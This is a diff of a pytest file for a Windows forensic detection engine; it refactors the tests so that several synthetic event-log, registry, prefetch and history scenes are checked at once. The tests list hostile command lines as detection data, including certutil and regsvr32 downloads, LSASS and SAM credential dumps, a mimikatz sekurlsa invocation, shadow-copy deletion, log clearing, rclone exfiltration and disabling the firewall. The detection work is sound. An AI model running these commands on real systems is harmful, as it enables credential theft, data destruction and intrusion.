@@ -31,7 +31,8 @@ DEFENDER = "Microsoft-Windows-Windows Defender"
 SCM = "Service Control Manager"
 LSM = "Microsoft-Windows-TerminalServices-LocalSessionManager"
 ACCOUNT = "S-1-5-21-1-2-3-1001"
-Fires = Callable[..., list[str]]
+Scene = Record | dict[str, Any] | list[Record]
+Fires = Callable[..., list[list[str]]]
 
 
 @pytest.fixture(scope="module")
@@ -51,31 +52,28 @@ def known() -> set[str]:
 
 @pytest.fixture
 def fires(tmp_path: Path, indicators: dict[str, Indicator]) -> Iterator[Fires]:
-    """Which of the Windows rules match some records of one artifact."""
-    stores: list[RecordStore] = []
+    """Which Windows rules match the records of one artifact, for each of several scenes (each a source of its own)."""
+    store = RecordStore(tmp_path / "case")
 
-    def run(artifact: str, *records: Record | dict[str, Any], path: str = "log") -> list[str]:
-        folder = tmp_path / f"case-{len(stores)}"
-        store = RecordStore(folder)
-        stores.append(store)
-        maker, spool = RowMaker("src", path, None, artifact), tmp_path / f"spool-{len(stores)}.jsonl"
-        rows = [r if isinstance(r, Record) else Record(r, {}) for r in records]
-        spool.write_bytes(b"".join(maker.line(n, {"kind": "record", "number": n}, r)[2] for n, r in enumerate(rows)))
-        store.add([store.write_part("src", artifact, [spool])])
+    def run(artifact: str, *scenes: Scene, path: str = "log") -> list[list[str]]:
+        for number, scene in enumerate(scenes):
+            maker, spool = RowMaker(f"src-{number}", path, None, artifact), tmp_path / f"{artifact}-{number}.jsonl"
+            rows = [
+                r if isinstance(r, Record) else Record(r, {}) for r in (scene if isinstance(scene, list) else [scene])
+            ]
+            lines = (maker.line(n, {"kind": "record", "number": n}, r)[2] for n, r in enumerate(rows))
+            spool.write_bytes(b"".join(lines))
+            store.add([store.write_part(f"src-{number}", artifact, [spool])])
         ours = {
             rule.id: rule
             for rule in indicators.values()
             if rule.origin.startswith("windows") and any(fnmatchcase(artifact, a) for a in rule.artifacts)
         }
-        return sorted(
-            name
-            for name in scan(store, ours.values(), "src")
-            if match(store, ours[name], "src", {}, catalogue=tuple(ours.values()))
-        )
+        hits = sorted(scan(store, ours.values(), None))
+        return [[name for name in hits if match(store, ours[name], f"src-{n}", {})] for n in range(len(scenes))]
 
     yield run
-    for store in stores:
-        store.close()
+    store.close()
 
 
 def event(number: int, provider: str, time: str = "", **values: Any) -> Record:
@@ -191,55 +189,47 @@ def test_the_catalogue_names_tools_and_artifacts_that_exist(known: set[str]) -> 
 
 
 def test_a_log_cleared_by_an_account_is_seen_and_one_cleared_by_the_system_is_not(fires: Fires) -> None:
-    assert "evtx.log_cleared" in fires(
-        "windows.eventlog", event(1102, LOG, SubjectUserName="someone", SubjectUserSid=ACCOUNT)
+    by_account, by_system, other = fires(
+        "windows.eventlog",
+        event(1102, LOG, SubjectUserName="someone", SubjectUserSid=ACCOUNT),
+        event(104, LOG, SubjectUserName="SYSTEM", SubjectUserSid="S-1-5-18", channel="System"),
+        event(1102, "Some-Other-Provider", SubjectUserName="someone", SubjectUserSid=ACCOUNT),
     )
-    by_system = fires(
-        "windows.eventlog", event(104, LOG, SubjectUserName="SYSTEM", SubjectUserSid="S-1-5-18", channel="System")
-    )
-    assert "evtx.log_cleared" not in by_system
-    assert "evtx.cleared_at_set_up" in by_system
-    assert not fires(
-        "windows.eventlog", event(1102, "Some-Other-Provider", SubjectUserName="someone", SubjectUserSid=ACCOUNT)
-    )
+    assert by_account == ["evtx.log_cleared"]
+    assert by_system == ["evtx.cleared_at_set_up"]
+    assert not other
 
 
 def test_set_up_accounts_are_left_alone_and_an_account_made_by_an_account_is_seen(fires: Fires) -> None:
+    actor, setup = (
+        {"SubjectUserName": "someone", "SubjectUserSid": ACCOUNT},
+        {"SubjectUserName": "MINWINPC$", "SubjectUserSid": "S-1-5-18"},
+    )
     values = {"TargetUserName": "helper", "TargetSid": "S-1-5-21-1-2-3-1007"}
-    assert fires(
-        "windows.eventlog", event(4720, AUDIT, SubjectUserName="someone", SubjectUserSid=ACCOUNT, **values)
-    ) == ["evtx.account_created"]
-    set_up = event(4720, AUDIT, SubjectUserName="MINWINPC$", SubjectUserSid="S-1-5-18", **values)
-    assert fires("windows.eventlog", set_up) == ["evtx.account_changed_by_system"]
-    other_group = event(
-        4732, AUDIT, SubjectUserName="someone", SubjectUserSid=ACCOUNT, TargetSid="S-1-5-32-545", MemberSid=ACCOUNT
+    made, by_system, users, raised, same, renamed = fires(
+        "windows.eventlog",
+        event(4720, AUDIT, **actor, **values),
+        event(4720, AUDIT, **setup, **values),
+        event(4732, AUDIT, **actor, TargetSid="S-1-5-32-545", MemberSid=ACCOUNT),
+        event(4732, AUDIT, **actor, TargetSid="S-1-5-32-544", MemberSid=ACCOUNT),
+        event(4781, AUDIT, **actor, OldTargetUserName="Guests", NewTargetUserName="guests"),
+        event(4781, AUDIT, **actor, OldTargetUserName="helper", NewTargetUserName="svc"),
     )
-    assert "evtx.account_to_administrators" not in fires("windows.eventlog", other_group)
-    same_name = event(
-        4781,
-        AUDIT,
-        SubjectUserName="someone",
-        SubjectUserSid=ACCOUNT,
-        OldTargetUserName="Guests",
-        NewTargetUserName="guests",
-    )
-    assert not fires("windows.eventlog", same_name)
+    assert made == ["evtx.account_created"]
+    assert by_system == ["evtx.account_changed_by_system"]
+    assert not users
+    assert raised == ["evtx.account_to_administrators"]
+    assert not same
+    assert renamed == ["evtx.account_renamed"]
 
 
 def failures(count: int, seconds: int, address: str = "192.0.2.7") -> list[Record]:
-    return [
-        event(
-            4625,
-            AUDIT,
-            f"2026-01-01T10:{n * seconds // 60:02d}:{n * seconds % 60:02d}Z",
-            IpAddress=address,
-            TargetUserName="admin",
-            LogonType=3,
-            Status="0xc000006d",
-            SubStatus="0xc000006a",
-        )
+    values = {"TargetUserName": "admin", "LogonType": 3, "Status": "0xc000006d", "SubStatus": "0xc000006a"}
+    times = [
+        f"2026-01-01T{10 + n * seconds // 3600}:{n * seconds // 60 % 60:02d}:{n * seconds % 60:02d}Z"
         for n in range(count)
     ]
+    return [event(4625, AUDIT, time, IpAddress=address, **values) for time in times]
 
 
 def success(address: str, time: str = "2026-01-01T10:20:00Z", **values: Any) -> Record:
@@ -248,62 +238,65 @@ def success(address: str, time: str = "2026-01-01T10:20:00Z", **values: Any) -> 
 
 
 def test_a_burst_of_failures_needs_number_and_speed(fires: Fires) -> None:
-    assert fires("windows.eventlog", *failures(9, 10)) == ["evtx.logon_failures_address"]
-    assert not fires("windows.eventlog", *failures(4, 10))
-    assert not fires("windows.eventlog", *failures(9, 400))
-    other = [
+    noise = [
         event(4625, "Microsoft-Windows-EventSystem", f"2026-01-01T10:00:{n:02d}Z", channel="Application")
         for n in range(20)
     ]
-    assert not fires("windows.eventlog", *other)
+    burst, few, slow, other = fires("windows.eventlog", failures(9, 10), failures(4, 10), failures(9, 400), noise)
+    assert burst == ["evtx.logon_failures_address"]
+    assert not few and not slow and not other
 
 
-def test_guessing_succeeds_only_with_a_success_from_the_same_origin(fires: Fires) -> None:
-    assert "evtx.failures_then_logon" in fires("windows.eventlog", *failures(9, 10), success("192.0.2.7"))
-    assert "evtx.failures_then_logon" not in fires("windows.eventlog", *failures(9, 10), success("192.0.2.99"))
-    before = success("192.0.2.7", "2026-01-01T09:00:00Z")
-    assert "evtx.failures_then_logon" not in fires("windows.eventlog", before, *failures(9, 10))
-    anonymous = success("192.0.2.7", TargetUserSid="S-1-5-7", TargetUserName="ANONYMOUS LOGON")
-    assert "evtx.failures_then_logon" not in fires("windows.eventlog", *failures(9, 10), anonymous)
+def test_guessing_succeeds_only_with_a_success_from_the_same_origin_afterwards(fires: Fires) -> None:
+    scenes = fires(
+        "windows.eventlog",
+        [*failures(9, 10), success("192.0.2.7")],
+        [*failures(9, 10), success("192.0.2.99")],
+        [success("192.0.2.7", "2026-01-01T09:00:00Z"), *failures(9, 10)],
+        [*failures(9, 10), success("192.0.2.7", TargetUserSid="S-1-5-7", TargetUserName="ANONYMOUS LOGON")],
+    )
+    assert ["evtx.failures_then_logon" in s for s in scenes] == [True, False, False, False]
 
 
 def test_remote_desktop_needs_a_remote_address_and_the_loopback_is_a_tunnel(fires: Fires) -> None:
-    assert fires("windows.eventlog", event(21, LSM, Address="198.51.100.4", User=r"HOST1\a")) == ["evtx.rdp_session"]
-    assert fires("windows.eventlog", event(21, LSM, Address="LOCAL", User=r"HOST1\a")) == ["evtx.rdp_local_sessions"]
-    assert fires("windows.eventlog", success("127.0.0.1", LogonType=10)) == ["evtx.rdp_loopback"]
-    assert fires("windows.eventlog", success("198.51.100.4", LogonType=10)) == ["evtx.rdp_logon"]
-    assert not fires("windows.eventlog", success("198.51.100.4", LogonType=3))
+    session, console, tunnel, logon, network = fires(
+        "windows.eventlog",
+        event(21, LSM, Address="198.51.100.4", User="a"),
+        event(21, LSM, Address="LOCAL", User="a"),
+        success("127.0.0.1", LogonType=10),
+        success("198.51.100.4", LogonType=10),
+        success("198.51.100.4", LogonType=3),
+    )
+    assert session == ["evtx.rdp_session"]
+    assert console == ["evtx.rdp_local_sessions"]
+    assert tunnel == ["evtx.rdp_loopback"]
+    assert logon == ["evtx.rdp_logon"]
+    assert not network
 
 
-@pytest.mark.parametrize(
-    "line,rule",
-    [
-        (r"certutil.exe -urlcache -f http://192.0.2.1/a.exe a.exe", "cmd.download"),
-        (r"regsvr32.exe /u /s /i:http://192.0.2.1/a.sct scrobj.dll", "cmd.proxy_execution"),
-        (r"powershell -nop -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA", "cmd.encoded_powershell"),
-        (r"vssadmin.exe delete shadows /all /quiet", "cmd.recovery_removed"),
-        (r"wevtutil cl Security", "cmd.log_cleared"),
-        (r"reg save HKLM\SAM C:\temp\s.hiv", "cmd.credential_dump"),
-        (r"procdump64.exe -accepteula -ma lsass.exe C:\x.dmp", "cmd.credential_dump"),
-        (r"rundll32 C:\windows\system32\comsvcs.dll, MiniDump 4868 C:\x.bin full", "cmd.credential_dump"),
-        (
-            r'reg add "HKLM\SOFTWARE\X\Image File Execution Options\sethc.exe" /v Debugger /d cmd.exe',
-            "cmd.debugger_added",
-        ),
-        (r"net localgroup administrators helper /add", "cmd.account_added"),
-        (r"schtasks /create /sc minute /mo 5 /tn X /tr C:\TMP\a.exe", "cmd.task_created"),
-        (r"rclone.exe copy C:\work remote:drop", "cmd.transfer_out"),
-        (r"sdelete64.exe -p 3 C:\work\list.xlsx", "cmd.wipe"),
-        (r"netsh advfirewall set allprofiles state off", "cmd.protection_disabled"),
-    ],
-)
-def test_command_lines_of_concern_are_seen(fires: Fires, line: str, rule: str) -> None:
-    assert rule in fires("windows.eventlog", started(line))
+def test_command_lines_of_concern_are_seen(fires: Fires) -> None:
+    wanted = {
+        r"certutil.exe -urlcache -f http://192.0.2.1/a.exe a.exe": "cmd.download",
+        r"regsvr32.exe /u /s /i:http://192.0.2.1/a.sct scrobj.dll": "cmd.proxy_execution",
+        r"powershell -nop -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA": "cmd.encoded_powershell",
+        r"vssadmin.exe delete shadows /all /quiet": "cmd.recovery_removed",
+        r"wevtutil cl Security": "cmd.log_cleared",
+        r"reg save HKLM\SAM C:\temp\s.hiv": "cmd.credential_dump",
+        r"procdump64.exe -accepteula -ma lsass.exe C:\x.dmp": "cmd.credential_dump",
+        r"rundll32 C:\windows\system32\comsvcs.dll, MiniDump 4868 C:\x.bin full": "cmd.credential_dump",
+        r'reg add "HKLM\SOFTWARE\X\Image File Execution Options\sethc.exe" /v Debugger /d cmd.exe': "cmd.debugger_added",
+        r"net localgroup administrators helper /add": "cmd.account_added",
+        r"schtasks /create /sc minute /mo 5 /tn X /tr C:\TMP\a.exe": "cmd.task_created",
+        r"rclone.exe copy C:\work remote:drop": "cmd.transfer_out",
+        r"sdelete64.exe -p 3 C:\work\list.xlsx": "cmd.wipe",
+        r"netsh advfirewall set allprofiles state off": "cmd.protection_disabled",
+    }
+    scenes = fires("windows.eventlog", *(started(line) for line in wanted))
+    assert [(line, rule) for (line, rule), seen in zip(wanted.items(), scenes, strict=True) if rule not in seen] == []
 
 
-@pytest.mark.parametrize(
-    "line",
-    [
+def test_ordinary_command_lines_are_left_alone(fires: Fires) -> None:
+    ordinary = [
         r"certutil.exe -hashfile C:\Users\a\setup.exe SHA256",
         r"C:\Windows\system32\regsvr32.exe /s C:\Windows\System32\some.dll",
         r"powershell -File C:\Windows\CCM\script.ps1",
@@ -316,85 +309,79 @@ def test_command_lines_of_concern_are_seen(fires: Fires, line: str, rule: str) -
         r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule",
         r"ping 127.0.0.1 -n 133",
         r"ngen.exe uninstall C:\Windows\assembly\NativeImages\Some.ni.dll /noroot",
-    ],
-)
-def test_ordinary_command_lines_are_left_alone(fires: Fires, line: str) -> None:
-    assert not fires("windows.eventlog", started(line, r"C:\Windows\System32\program.exe"))
-
-
-def test_the_same_line_in_an_event_that_is_no_process_start_is_nothing(fires: Fires) -> None:
-    assert not fires(
-        "windows.eventlog", event(1, "Microsoft-Windows-Kernel-General", CommandLine="wevtutil cl Security")
+    ]
+    other_event = event(1, "Microsoft-Windows-Kernel-General", CommandLine="wevtutil cl Security")
+    scenes = fires(
+        "windows.eventlog", *(started(line, r"C:\Windows\System32\program.exe") for line in ordinary), other_event
     )
+    assert [(line, seen) for line, seen in zip([*ordinary, "no process start"], scenes, strict=True) if seen] == []
 
 
-def test_a_scheduled_credential_tool_is_persistence_and_not_a_dump(fires: Fires) -> None:
+def test_a_scheduled_credential_tool_is_persistence_and_a_local_remote_tool_is_local(fires: Fires) -> None:
     line = r'schtasks /create /f /sc minute /mo 5 /tn X /tr "C:\TMP\m.exe sekurlsa::LogonPasswords > C:\TMP\o.txt"'
-    assert fires("windows.eventlog", started(line, r"C:\Windows\System32\schtasks.exe")) == ["cmd.task_created"]
-
-
-def test_a_remote_execution_tool_without_a_target_is_local_use(fires: Fires) -> None:
-    local = started(r"psexec64.exe -accepteula -s cmd.exe", r"C:\Tools\psexec64.exe")
-    remote = started(r"psexec64.exe \\srv01 -s cmd.exe", r"C:\Tools\psexec64.exe")
-    assert fires("windows.eventlog", local) == ["cmd.psexec_client", "cmd.remote_execution_to_self"]
-    assert fires("windows.eventlog", remote) == ["cmd.psexec_client", "cmd.remote_execution"]
+    task, local, remote = fires(
+        "windows.eventlog",
+        started(line, r"C:\Windows\System32\schtasks.exe"),
+        started(r"psexec64.exe -accepteula -s cmd.exe", r"C:\Tools\psexec64.exe"),
+        started(r"psexec64.exe \\srv01 -s cmd.exe", r"C:\Tools\psexec64.exe"),
+    )
+    assert task == ["cmd.task_created"]
+    assert local == ["cmd.psexec_client", "cmd.remote_execution_to_self"]
+    assert remote == ["cmd.psexec_client", "cmd.remote_execution"]
 
 
 def test_services_of_drivers_and_updaters_are_left_alone(fires: Fires) -> None:
-    def service(name: str, image: str) -> Record:
-        return event(7045, SCM, ServiceName=name, ImagePath=image, ServiceType="user mode service", channel="System")
+    def service(name: str, image: str, second: int = 0) -> Record:
+        more = {"ServiceName": name, "ImagePath": image, "ServiceType": "user mode service", "channel": "System"}
+        return event(7045, SCM, f"2026-01-01T10:20:{second:02d}Z", **more)
 
-    assert fires("windows.eventlog", service("PSEXESVC", r"%SystemRoot%\PSEXESVC.exe")) == ["evtx.psexec_service"]
-    assert "evtx.service_command" in fires(
-        "windows.eventlog", service("abc", r"%COMSPEC% /Q /c echo x ^> \\127.0.0.1\C$\__o")
+    tool, shell, public, driver, updater, hosted, soon, late = fires(
+        "windows.eventlog",
+        service("PSEXESVC", r"%SystemRoot%\PSEXESVC.exe"),
+        service("abc", r"%COMSPEC% /Q /c echo x ^> \\127.0.0.1\C$\__o"),
+        service("abc", r"C:\Users\Public\a.exe"),
+        service("e1i65x64", r"\SystemRoot\System32\drivers\e1i65x64.sys"),
+        service("gupdate", r'"C:\Program Files (x86)\Google\Update\GoogleUpdate.exe" /svc'),
+        service("print", r"%SystemRoot%\system32\svchost.exe -k print"),
+        [success("198.51.100.4"), service("x", r"C:\Windows\a.exe", 3)],
+        [success("198.51.100.4"), service("x", r"C:\Windows\a.exe", 40)],
     )
-    assert fires("windows.eventlog", service("abc", r"C:\Users\Public\a.exe")) == ["evtx.service_user_writable"]
-    for image in (
-        r"\SystemRoot\System32\drivers\e1i65x64.sys",
-        r'"C:\Program Files (x86)\Google\Update\GoogleUpdate.exe" /svc',
-        r"%SystemRoot%\system32\svchost.exe -k print",
-    ):
-        assert not fires("windows.eventlog", service("ordinary", image))
-
-
-def test_a_network_logon_joined_to_a_service_within_seconds_is_remote_execution(fires: Fires) -> None:
-    def service(second: int) -> Record:
-        return event(
-            7045,
-            SCM,
-            f"2026-01-01T10:20:{second:02d}Z",
-            ServiceName="x",
-            ImagePath=r"C:\Windows\a.exe",
-            ServiceType="user mode service",
-            channel="System",
-        )
-
-    assert "evtx.logon_then_service" in fires("windows.eventlog", success("198.51.100.4"), service(3))
-    assert "evtx.logon_then_service" not in fires("windows.eventlog", success("198.51.100.4"), service(40))
+    assert tool == ["evtx.psexec_service"]
+    assert shell == ["evtx.service_command"]
+    assert public == ["evtx.service_user_writable"]
+    assert not driver and not updater and not hosted
+    assert soon == ["evtx.logon_then_service"]
+    assert not late
 
 
 def test_protection_that_reads_the_logon_process_is_no_dump(fires: Fires) -> None:
     def opened(image: str, access: str = "0x1010") -> Record:
         return event(10, SYSMON, SourceImage=image, TargetImage=r"C:\Windows\system32\lsass.exe", GrantedAccess=access)
 
-    assert fires("windows.eventlog", opened(r"C:\Users\a\m.exe")) == ["evtx.lsass_access"]
-    protection = r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18\MsMpEng.exe"
-    assert fires("windows.eventlog", opened(protection)) == ["evtx.lsass_access_by_protection"]
-    assert not fires("windows.eventlog", opened(r"C:\Users\a\m.exe", "0x1000"))
+    tool, protection, query = fires(
+        "windows.eventlog",
+        opened(r"C:\Users\a\m.exe"),
+        opened(r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18\MsMpEng.exe"),
+        opened(r"C:\Users\a\m.exe", "0x1000"),
+    )
+    assert tool == ["evtx.lsass_access"]
+    assert protection == ["evtx.lsass_access_by_protection"]
+    assert not query
 
 
 def test_windows_own_subscription_and_the_time_service_are_left_alone(fires: Fires) -> None:
-    wmi = "Microsoft-Windows-WMI-Activity"
-    default = event(5861, wmi, CONSUMER='NTEventLogEventConsumer="SCM Event Log Consumer"', ESS="SCM Event Log Filter")
-    assert fires("windows.eventlog", default) == ["evtx.wmi_default_subscription"]
-    assert fires("windows.eventlog", event(5861, wmi, CONSUMER='CommandLineEventConsumer="x"', ESS="f")) == [
-        "evtx.wmi_subscription"
-    ]
-    clock = {"SubjectUserSid": ACCOUNT, "SubjectUserName": "someone"}
-    assert not fires("windows.eventlog", event(4616, AUDIT, ProcessName=r"C:\Windows\System32\svchost.exe", **clock))
-    assert fires("windows.eventlog", event(4616, AUDIT, ProcessName=r"C:\Windows\System32\dllhost.exe", **clock)) == [
-        "evtx.clock_changed"
-    ]
+    wmi, who = "Microsoft-Windows-WMI-Activity", {"SubjectUserSid": ACCOUNT, "SubjectUserName": "someone"}
+    default, foreign, service, program = fires(
+        "windows.eventlog",
+        event(5861, wmi, CONSUMER='NTEventLogEventConsumer="SCM Event Log Consumer"', ESS="SCM Event Log Filter"),
+        event(5861, wmi, CONSUMER='CommandLineEventConsumer="x"', ESS="f"),
+        event(4616, AUDIT, ProcessName=r"C:\Windows\System32\svchost.exe", **who),
+        event(4616, AUDIT, ProcessName=r"C:\Windows\System32\dllhost.exe", **who),
+    )
+    assert default == ["evtx.wmi_default_subscription"]
+    assert foreign == ["evtx.wmi_subscription"]
+    assert not service
+    assert program == ["evtx.clock_changed"]
 
 
 def test_a_creation_time_set_back_counts_and_one_set_forward_or_by_an_installer_does_not(fires: Fires) -> None:
@@ -409,37 +396,62 @@ def test_a_creation_time_set_back_counts_and_one_set_forward_or_by_an_installer_
         return Record(data, {"CreationUtcTime": iso(now), "PreviousCreationUtcTime": iso(before)}, None)  # type: ignore[dict-item]
 
     old, new = "2016-02-02T15:30:02Z", "2019-04-30T10:12:45Z"
-    assert fires("windows.eventlog", stamped(r"C:\Users\a\x.exe", old, new)) == ["evtx.file_time_changed"]
-    assert not fires("windows.eventlog", stamped(r"C:\Users\a\x.exe", new, old))
-    assert fires("windows.eventlog", stamped(r"C:\Windows\System32\msiexec.exe", old, new)) == [
-        "evtx.file_time_changed_by_installer"
-    ]
+    back, forward, installer = fires(
+        "windows.eventlog",
+        stamped(r"C:\Users\a\x.exe", old, new),
+        stamped(r"C:\Users\a\x.exe", new, old),
+        stamped(r"C:\Windows\System32\msiexec.exe", old, new),
+    )
+    assert back == ["evtx.file_time_changed"]
+    assert not forward
+    assert installer == ["evtx.file_time_changed_by_installer"]
+
+
+def test_routine_settings_of_the_protection_are_not_its_end(fires: Fires) -> None:
+    def set_to(value: str) -> Record:
+        return event(5007, DEFENDER, **{"New Value": "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\" + value})
+
+    stopped, off, added, *routine = fires(
+        "windows.eventlog",
+        event(5001, DEFENDER),
+        set_to("Real-Time Protection\\DisableRealtimeMonitoring = 0x1"),
+        set_to("Exclusions\\Paths\\C:\\TMP = 0x0"),
+        set_to("SpyNet\\MAPSconcurrency = 0x1"),
+        set_to("Features\\TamperProtection = 0x1"),
+        set_to("Real-Time Protection\\DisableRealtimeMonitoring = 0x0"),
+    )
+    assert stopped == off == ["evtx.defender_disabled"]
+    assert added == ["evtx.defender_exclusion"]
+    assert routine == [[], [], []]
 
 
 def test_prefetch_of_system_programs_in_their_own_folder_is_nothing(fires: Fires) -> None:
-    def run(name: str, folder: str) -> dict[str, Any]:
+    def ran(name: str, folder: str) -> dict[str, Any]:
         return {"executable": name, "executable_path": "\\VOLUME{01d8-1a48}\\" + folder + "\\" + name, "run_count": 2}
 
-    assert not fires("windows.prefetch", run("SVCHOST.EXE", r"WINDOWS\SYSTEM32"))
-    assert not fires("windows.prefetch", run("EXPLORER.EXE", "WINDOWS"))
-    unpacked = run("DISMHOST.EXE", r"WINDOWS\TEMP\1F626032-A0AB-11EC-AAFA-EC63D7728336")
-    assert fires("windows.prefetch", unpacked) == ["prefetch.installer_from_temp"]
-    assert "prefetch.system_name_wrong_place" in fires("windows.prefetch", run("SVCHOST.EXE", r"USERS\PUBLIC"))
-    assert fires("windows.prefetch", run("RCLONE.EXE", r"USERS\A\APPDATA\LOCAL\TEMP\RC")) == [
-        "prefetch.transfer_tool",
-        "prefetch.user_writable",
-    ]
-    assert fires("windows.prefetch", run("SDELETE64.EXE", r"USERS\A\TOOLS")) == ["prefetch.wiping_tool"]
+    own, shell, unpacked, foreign, copier, wiper = fires(
+        "windows.prefetch",
+        ran("SVCHOST.EXE", r"WINDOWS\SYSTEM32"),
+        ran("EXPLORER.EXE", "WINDOWS"),
+        ran("DISMHOST.EXE", r"WINDOWS\TEMP\1F626032-A0AB-11EC-AAFA-EC63D7728336"),
+        ran("SVCHOST.EXE", r"USERS\PUBLIC"),
+        ran("RCLONE.EXE", r"USERS\A\APPDATA\LOCAL\TEMP\RC"),
+        ran("SDELETE64.EXE", r"USERS\A\TOOLS"),
+    )
+    assert not own and not shell
+    assert unpacked == ["prefetch.installer_from_temp"]
+    assert foreign == ["prefetch.system_name_wrong_place", "prefetch.user_writable"]
+    assert copier == ["prefetch.transfer_tool", "prefetch.user_writable"]
+    assert wiper == ["prefetch.wiping_tool"]
 
 
-def test_seeded_counters_are_no_use_of_a_program(fires: Fires) -> None:
-    values = {"name": "AnyDesk.exe", "path": r"C:\Tools\AnyDesk.exe", "counter": 5}
-    times = {"last_run": iso("2026-01-01T10:00:00Z")}
-    seen = Record({**values, "seed_suspected": False}, times)  # type: ignore[arg-type]
-    assert fires("windows.registry.userassist", seen) == ["reg.userassist_remote_access"]
-    seeded = Record({**values, "seed_suspected": True}, times)  # type: ignore[arg-type]
-    assert not fires("windows.registry.userassist", seeded)
-    assert not fires("windows.registry.userassist", Record({**values, "seed_suspected": False}, {}))
+def test_seeded_and_undated_counters_are_no_use_of_a_program(fires: Fires) -> None:
+    def counted(seeded: bool, time: str = "2026-01-01T10:00:00Z") -> Record:
+        data = {"name": "AnyDesk.exe", "path": r"C:\Tools\AnyDesk.exe", "counter": 5, "seed_suspected": seeded}
+        return Record(data, {"last_run": iso(time)} if time else {})  # type: ignore[dict-item]
+
+    scenes = fires("windows.registry.userassist", counted(False), counted(True), counted(False, ""))
+    assert scenes == [["reg.userassist_remote_access"], [], []]
 
 
 def test_autostart_of_installed_and_per_account_products_is_left_alone(fires: Fires) -> None:
@@ -451,65 +463,60 @@ def test_autostart_of_installed_and_per_account_products_is_left_alone(fires: Fi
             "key": r"HKCU\Software\Microsoft\Windows\CurrentVersion\Run",
         }
 
-    assert fires("windows.registry.autostart", entry(r"C:\Users\a\AppData\Local\Temp\rc\s.cmd /quiet")) == [
-        "reg.autostart_user_writable"
-    ]
-    assert not fires("windows.registry.autostart", entry(r"%windir%\system32\SecurityHealthSystray.exe"))
-    product = fires(
-        "windows.registry.autostart", entry(r'"C:\Users\a\AppData\Local\Discord\Update.exe" --processStart Discord.exe')
+    scenes = fires(
+        "windows.registry.autostart",
+        entry(r"C:\Users\a\AppData\Local\Temp\rc\s.cmd /quiet"),
+        entry(r"%windir%\system32\SecurityHealthSystray.exe"),
+        entry(r'"C:\Users\a\AppData\Local\Discord\Update.exe" --processStart Discord.exe'),
     )
-    assert product == ["reg.autostart_per_account_product"]
+    assert scenes == [["reg.autostart_user_writable"], [], ["reg.autostart_per_account_product"]]
 
 
-def test_built_in_accounts_and_phones_on_the_bus_are_left_alone(fires: Fires) -> None:
-    assert fires("windows.registry.account", {"user_name": "a", "rid": 1001, "rid_in_f": 1001}) == ["reg.local_account"]
-    assert not fires("windows.registry.account", {"user_name": "DefaultAccount", "rid": 503, "rid_in_f": 503})
-    assert fires("windows.registry.account", {"user_name": "Guest", "rid": 501, "rid_in_f": 500}) == [
-        "reg.hidden_account"
-    ]
-    assert fires("windows.registry.usb_storage", {"serial": "1234", "device_id": "Disk&Ven_X", "is_current": True}) == [
-        "reg.usb_storage"
-    ]
-    assert not fires(
-        "windows.registry.usb_device", {"serial": "8db9", "device_id": "VID_05AC&PID_12A8", "is_current": True}
+def test_built_in_accounts_are_left_alone_and_a_borrowed_number_is_seen(fires: Fires) -> None:
+    scenes = fires(
+        "windows.registry.account",
+        {"user_name": "a", "rid": 1001, "rid_in_f": 1001},
+        {"user_name": "DefaultAccount", "rid": 503, "rid_in_f": 503},
+        {"user_name": "Guest", "rid": 501, "rid_in_f": 500},
     )
+    assert scenes == [["reg.local_account"], [], ["reg.hidden_account"]]
+
+
+def test_only_storage_devices_are_removable_media(fires: Fires) -> None:
+    stick, drive = fires(
+        "windows.registry.usb_storage",
+        {"serial": "1234", "device_id": "Disk&Ven_X", "is_current": True},
+        {"serial": "1234", "device_id": "CdRom&Ven_X", "is_current": True},
+    )
+    assert (stick, drive) == (["reg.usb_storage"], [])
+    assert fires("windows.registry.usb_device", {"serial": "8db9", "device_id": "VID_05AC&PID_12A8"}) == [[]]
 
 
 def test_shell_lines_need_a_windows_history_and_links_a_removable_drive(fires: Fires) -> None:
     history = "Users/a/AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt"
-    line = {"command": "wevtutil cl Security", "shell": "powershell"}
-    assert fires("linux.history", line, path=history) == ["hist.log_cleared"]
-    assert not fires("linux.history", line, path="home/a/.bash_history")
-    assert not fires("linux.history", {"command": "wevtutil el", "shell": "powershell"}, path=history)
-    assert fires("windows.lnk", {"local_path": "E:\\a.step", "drive_type": "removable"}) == ["lnk.removable_item"]
-    assert not fires("windows.lnk", {"local_path": "C:\\a.step", "drive_type": "fixed"})
+    scenes = fires("linux.history", {"command": "wevtutil cl Security"}, {"command": "wevtutil el"}, path=history)
+    assert scenes == [["hist.log_cleared"], []]
+    links = fires(
+        "windows.lnk",
+        {"local_path": "E:\\a", "drive_type": "removable"},
+        {"local_path": "C:\\a", "drive_type": "fixed"},
+    )
+    assert links == [["lnk.removable_item"], []]
+
+
+def test_a_line_in_another_shells_history_is_not_a_windows_one(fires: Fires) -> None:
+    assert fires("linux.history", {"command": "wevtutil cl Security"}, path="home/a/.bash_history") == [[]]
 
 
 def test_tasks_of_vendors_are_left_alone(fires: Fires) -> None:
     def task(line: str) -> dict[str, Any]:
         return {"task_name": "T", "task_path": "\\T", "command_line": line}
 
-    assert fires("windows.scheduled_task", task(r"C:\Users\a\AppData\Local\Temp\rc\sync.cmd /quiet")) == [
-        "task.user_writable"
-    ]
-    for line in (
-        r"C:\Program Files (x86)\Google\Update\GoogleUpdate.exe /ua /installsource scheduler",
-        r"%SystemRoot%\system32\ClipRenew.exe -e",
-        r"%localappdata%\Microsoft\OneDrive\OneDriveStandaloneUpdater.exe",
-    ):
-        assert not fires("windows.scheduled_task", task(line))
-
-
-def test_routine_settings_of_the_protection_are_not_its_end(fires: Fires) -> None:
-    base = "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\"
-    assert fires("windows.eventlog", event(5001, DEFENDER)) == ["evtx.defender_disabled"]
-    off = event(5007, DEFENDER, **{"New Value": base + "Real-Time Protection\\DisableRealtimeMonitoring = 0x1"})
-    assert fires("windows.eventlog", off) == ["evtx.defender_disabled"]
-    for value in (
-        "SpyNet\\MAPSconcurrency = 0x1",
-        "Features\\TamperProtection = 0x1",
-        "Real-Time Protection\\DisableRealtimeMonitoring = 0x0",
-    ):
-        assert not fires("windows.eventlog", event(5007, DEFENDER, **{"New Value": base + value}))
